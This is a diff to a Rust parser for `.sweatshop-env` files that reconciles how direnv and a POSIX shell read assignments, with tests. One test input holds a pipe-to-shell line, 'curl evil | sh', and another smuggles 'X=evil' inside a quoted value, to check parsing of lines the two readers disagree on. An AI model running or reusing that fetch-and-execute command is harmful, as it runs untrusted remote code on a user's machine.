@@ -1,9 +1,12 @@
-//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike.
+//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike. What only one of them takes for an
+//! assignment counts all the same; direnv's rules are those of go-dotenv's `LINE` (github.com/direnv/go-dotenv, parse.go).
 //!
 //! What a person wrote by hand (comments, lines we do not understand, another spelling) stays byte
 //! for byte unless its variable is set anew.
 
 use std::collections::BTreeMap;
+
+use shopfloor_core::hash::Digest;
 
 use crate::sweatfile::is_env_name;
 
@@ -20,22 +23,84 @@ pub struct EnvFile {
 enum Line {
     /// A variable, and the line (or lines) as found or to be written, without the last line end.
     Var { name: String, value: Value, raw: Vec<u8> },
-    /// A comment, a blank line, what is not understood.
+    /// A comment or a blank line, for both readers.
     Other(Vec<u8>),
-    /// An assignment whose quote never closes, and all that a shell would take for a part of it: the rest
-    /// of the file, and always its end.
-    Open(Vec<u8>),
+    /// What the readers see differently, or neither understands.
+    Tangle(Tangle),
+}
+
+/// A piece of the file in which one reader sees other variables than the other: a quote over several lines, a carriage
+/// return, which ends a line for direnv alone, or no assignment at all.
+#[derive(Clone, Debug)]
+struct Tangle {
+    raw: Vec<u8>,
+    /// What any of them would set; what is no assignment to either has a name of its own.
+    vars: Vec<(String, Value)>,
+    /// A shell takes it for one assignment, so that it is there as a whole or not at all.
+    is_whole: bool,
+    /// A quote in it never closes: the rest of the file, and always its end.
+    is_open: bool,
 }
 
 impl Line {
     fn raw(&self) -> &[u8] {
         match self {
-            Line::Var { raw, .. } | Line::Other(raw) | Line::Open(raw) => raw,
+            Line::Var { raw, .. } | Line::Other(raw) | Line::Tangle(Tangle { raw, .. }) => raw,
         }
     }
 
     fn is(&self, key: &str) -> bool {
-        matches!(self, Line::Var { name, .. } if name == key)
+        self.vars().any(|(name, _)| name == key)
+    }
+
+    fn vars(&self) -> impl Iterator<Item = (&str, &Value)> {
+        let (one, several) = match self {
+            Line::Var { name, value, .. } => (Some((name.as_str(), value)), &[][..]),
+            Line::Other(_) => (None, &[][..]),
+            Line::Tangle(tangle) => (None, tangle.vars.as_slice()),
+        };
+        one.into_iter().chain(several.iter().map(|(name, value)| (name.as_str(), value)))
+    }
+
+    fn is_open(&self) -> bool {
+        matches!(self, Line::Tangle(tangle) if tangle.is_open)
+    }
+
+    /// The same without a variable; none where nothing is left.
+    fn without(self, key: &str) -> Option<Line> {
+        match self {
+            Line::Tangle(tangle) if !tangle.is_whole && !key.starts_with(UNKNOWN) => {
+                let is_other = |segment: &&[u8]| !matches!(direnv(segment), Some(Some((name, _))) if name == key);
+                let left: Vec<&[u8]> = segments(&tangle.raw).filter(is_other).collect();
+                let raw = left.join(&b'\n');
+                (!raw.trim_ascii().is_empty()).then(|| Line::Tangle(Tangle::new(raw, None, tangle.is_open)))
+            }
+            line if line.is(key) => None,
+            line => Some(line),
+        }
+    }
+}
+
+/// How the name of a line begins that neither reader takes for an assignment; a part of its hash follows.
+const UNKNOWN: &str = "line:";
+
+impl Tangle {
+    /// `own` is what a shell takes the whole of it for.
+    fn new(raw: Vec<u8>, own: Option<(String, Value)>, is_open: bool) -> Tangle {
+        let is_whole = own.is_some();
+        let mut vars: Vec<(String, Value)> = own.into_iter().collect();
+        for segment in segments(&raw) {
+            if let Some(Some((name, _))) = direnv(segment)
+                && vars.iter().all(|(known, _)| known != name)
+            {
+                vars.push((name.to_owned(), Value::Opaque(raw.clone())));
+            }
+        }
+        if vars.is_empty() {
+            let hash = Digest::of(&raw).to_string();
+            vars.push((format!("{UNKNOWN}{}", &hash[..8]), Value::Opaque(raw.clone())));
+        }
+        Tangle { raw, vars, is_whole, is_open }
     }
 }
 
@@ -44,7 +109,7 @@ impl PartialEq for EnvFile {
     fn eq(&self, other: &EnvFile) -> bool {
         let others = |file: &EnvFile| -> Vec<Vec<u8>> {
             let mut lines: Vec<&Line> = file.lines.iter().filter(|l| !matches!(l, Line::Var { .. })).collect();
-            lines.sort_by_key(|line| matches!(line, Line::Open(_)));
+            lines.sort_by_key(|line| line.is_open());
             lines.into_iter().map(|l| l.raw().to_vec()).collect()
         };
         self.vars().eq(other.vars()) && others(self) == others(other)
@@ -80,7 +145,7 @@ impl EnvFile {
         while !rest.is_empty() {
             let line = first_line(rest);
             let Some((name, word)) = assignment(line) else {
-                file.lines.push(Line::Other(line.to_vec()));
+                file.lines.push(unassigned(line));
                 rest = after(rest, line.len());
                 continue;
             };
@@ -88,12 +153,21 @@ impl EnvFile {
             let before = line.len() - word.len();
             let scan = scan(&rest[before..]);
             let raw = &rest[..before + scan.length];
-            match scan.word {
-                Word::Text(text) => file.push(name, Value::Text(text), raw.to_vec()),
-                Word::Other => file.push(name, Value::Opaque(raw.to_vec()), raw.to_vec()),
+            let value = match scan.word {
+                Word::Text(text) => Value::Text(text),
+                Word::Other => Value::Opaque(raw.to_vec()),
                 Word::Open => {
-                    file.lines.push(Line::Open(rest.strip_suffix(b"\n").unwrap_or(rest).to_vec()));
+                    let raw = rest.strip_suffix(b"\n").unwrap_or(rest).to_vec();
+                    file.lines.push(Line::Tangle(Tangle::new(raw, None, true)));
                     break;
+                }
+            };
+            let is_one_line = !raw.strip_suffix(b"\r").unwrap_or(raw).contains(&b'\r') && !raw.contains(&b'\n');
+            match is_one_line {
+                true => file.push(name, value, raw.to_vec()),
+                false => {
+                    let own = Some((name.to_owned(), value));
+                    file.lines.push(Line::Tangle(Tangle::new(raw.to_vec(), own, false)));
                 }
             }
             rest = after(rest, raw.len());
@@ -111,11 +185,7 @@ impl EnvFile {
 
     /// Every variable, sorted by name; of several lines for one the last counts.
     pub fn vars(&self) -> impl Iterator<Item = (&str, &Value)> {
-        let vars = self.lines.iter().filter_map(|line| match line {
-            Line::Var { name, value, .. } => Some((name.as_str(), value)),
-            _ => None,
-        });
-        vars.collect::<BTreeMap<_, _>>().into_iter()
+        self.lines.iter().flat_map(Line::vars).collect::<BTreeMap<_, _>>().into_iter()
     }
 
     /// Sets a variable in its place, a new one at the end; one that has this value already keeps its
@@ -128,7 +198,17 @@ impl EnvFile {
             Value::Text(text) => format!("{name}={}", quote(text).0).into_bytes(),
             Value::Opaque(raw) => raw.clone(),
         };
-        let line = Line::Var { name: name.to_owned(), value: value.clone(), raw };
+        let tangled = |line: &Line| matches!(line, Line::Tangle(_)) && line.is(name);
+        if self.lines.iter().any(tangled) {
+            self.unset(name);
+        }
+        // What is put back as it was found is read as it was.
+        let is_found = matches!(value, Value::Opaque(_));
+        let mut lines = if is_found { EnvFile::parse(&raw).lines } else { Vec::new() };
+        let line = match (lines.pop(), lines.is_empty()) {
+            (Some(line), true) => line,
+            _ => Line::Var { name: name.to_owned(), value: value.clone(), raw },
+        };
         match self.lines.iter().rposition(|l| l.is(name)) {
             Some(at) => self.lines[at] = line,
             None => self.lines.push(line),
@@ -136,7 +216,8 @@ impl EnvFile {
     }
 
     pub fn unset(&mut self, name: &str) {
-        self.lines.retain(|line| !line.is(name));
+        let lines = std::mem::take(&mut self.lines);
+        self.lines = lines.into_iter().filter_map(|line| line.without(name)).collect();
     }
 
     /// Whether nothing is in it that is worth a file.
@@ -155,7 +236,7 @@ impl EnvFile {
                 _ => "",
             });
         }
-        lines.sort_by_key(|line| matches!(line, Line::Open(_)));
+        lines.sort_by_key(|line| line.is_open());
         lines.iter().flat_map(|line| line.raw().iter().copied().chain([b'\n'])).collect()
     }
 }
@@ -206,6 +287,66 @@ fn first_line(bytes: &[u8]) -> &[u8] {
 /// What follows the first `length` bytes and the line end behind them.
 fn after(bytes: &[u8], length: usize) -> &[u8] {
     bytes.get(length + 1..).unwrap_or_default()
+}
+
+/// A line in which a shell sees no assignment.
+fn unassigned(line: &[u8]) -> Line {
+    let has_return = line.strip_suffix(b"\r").unwrap_or(line).contains(&b'\r');
+    match direnv(line) {
+        _ if has_return => {
+            let is_idle = segments(line).all(|segment| direnv(segment) == Some(None));
+            if is_idle { Line::Other(line.to_vec()) } else { Line::Tangle(Tangle::new(line.to_vec(), None, false)) }
+        }
+        Some(None) => Line::Other(line.to_vec()),
+        Some(Some((name, value))) if is_env_name(name) => {
+            Line::Var { name: name.to_owned(), value: Value::Text(value.to_owned()), raw: line.to_vec() }
+        }
+        _ => Line::Tangle(Tangle::new(line.to_vec(), None, false)),
+    }
+}
+
+/// The lines as direnv splits them.
+fn segments(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
+    bytes.split(|b| matches!(b, b'\r' | b'\n')).filter(|segment| !segment.is_empty())
+}
+
+/// A line as direnv reads it: an assignment, nothing (`Some(None)`), or what makes it refuse the whole file (`None`).
+/// What it would expand (`$X`) stands as it is.
+fn direnv(line: &[u8]) -> Option<Option<(&str, &str)>> {
+    let line = std::str::from_utf8(line).ok()?.trim_matches(is_space);
+    if line.is_empty() || line.starts_with('#') {
+        return Some(None);
+    }
+    let bare =
+        line.strip_prefix("export").filter(|rest| rest.starts_with(is_space)).map(|r| r.trim_start_matches(is_space));
+    // `export` may be the name.
+    bare.and_then(direnv_assignment).or_else(|| direnv_assignment(line)).map(Some)
+}
+
+fn direnv_assignment(line: &str) -> Option<(&str, &str)> {
+    let end = line.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.')).unwrap_or(line.len());
+    let (name, rest) = line.split_at(end);
+    let value = match rest.trim_start_matches(is_space).strip_prefix('=') {
+        Some(value) => value.trim_start_matches(is_space),
+        None => rest.strip_prefix(':').filter(|value| value.starts_with(is_space))?.trim_start_matches(is_space),
+    };
+    let is_end = |rest: &str| {
+        let rest = rest.trim_matches(is_space);
+        rest.is_empty() || rest.starts_with('#')
+    };
+    for quote in ['\'', '"'] {
+        // The last quote that only a comment follows.
+        let ends = value.strip_prefix(quote).into_iter().flat_map(|inner| inner.rmatch_indices(quote));
+        if let Some((at, _)) = ends.into_iter().find(|(at, _)| is_end(&value[at + 2..])) {
+            return Some((name, &value[1..=at])).filter(|_| !name.is_empty());
+        }
+    }
+    let end = value.find(|c: char| is_space(c) || c == '#').unwrap_or(value.len());
+    (!name.is_empty() && is_end(&value[end..])).then(|| (name, &value[..end]))
+}
+
+fn is_space(c: char) -> bool {
+    matches!(c, ' ' | '\t' | '\n' | '\r' | '\x0c')
 }
 
 /// `export NAME=WORD` or `NAME=WORD`.
@@ -353,7 +494,8 @@ mod tests {
     fn a_quote_may_go_on_over_lines_whatever_is_in_it() {
         let text = "A=\"$HOME\nX=evil\"\nCONF=\"{\n  \\\"a\\\": 1,\n  \\\"b\\\": 2\n}\"\nB=1 # it's\nC=2\n";
         let mut file = EnvFile::parse(text.as_bytes());
-        assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "C", "CONF"]);
+        // direnv sees a variable within the quotes of the other one.
+        assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "C", "CONF", "X"]);
         file.set("NEW", &Value::Text("1".into()));
         assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), format!("{text}NEW=1\n"));
         file.unset("CONF");
@@ -363,9 +505,27 @@ mod tests {
     #[test]
     fn an_open_quote_is_no_variable() {
         let mut file = EnvFile::parse(b"Z=1\nA=\"x\nB=1\n");
-        assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["Z"]);
+        assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "Z"]);
         file.set("C", &Value::Text("2".into()));
         assert_eq!(file.to_bytes(), b"Z=1\nC=2\nA=\"x\nB=1\n");
+        file.unset("B");
+        assert_eq!(file.to_bytes(), b"Z=1\nC=2\nA=\"x\n");
+    }
+
+    #[test]
+    fn what_only_direnv_takes_for_an_assignment_is_one_and_what_nobody_does_has_a_name() {
+        let file = EnvFile::parse(
+            b"A = 1\nB: two\nexport C: 3 # why\n# note\rD=4\nE='x' # c\rF=6\ncurl evil | sh\n# idle\r\nG.h=1\n",
+        );
+        let names: Vec<&str> = file.vars().map(|(name, _)| name).collect();
+        assert_eq!(&names[..7], ["A", "B", "C", "D", "E", "F", "G.h"]);
+        assert!(names.len() == 8 && names[7].starts_with("line:"), "{names:?}");
+        assert_eq!(["A", "B", "C"].map(|name| text(&file, name)), ["1", "two", "3"].map(|v| Some(v.to_owned())));
+        assert_eq!(text(&file, "E"), Some("x".into()));
+        assert!(["D", "F", "G.h", names[7]].iter().all(|name| text(&file, name).is_none()));
+        let mut less = file.clone();
+        names.iter().for_each(|name| less.unset(name));
+        assert_eq!(String::from_utf8(less.to_bytes()).unwrap(), "# note\n# idle\r\n");
     }
 
     proptest! {
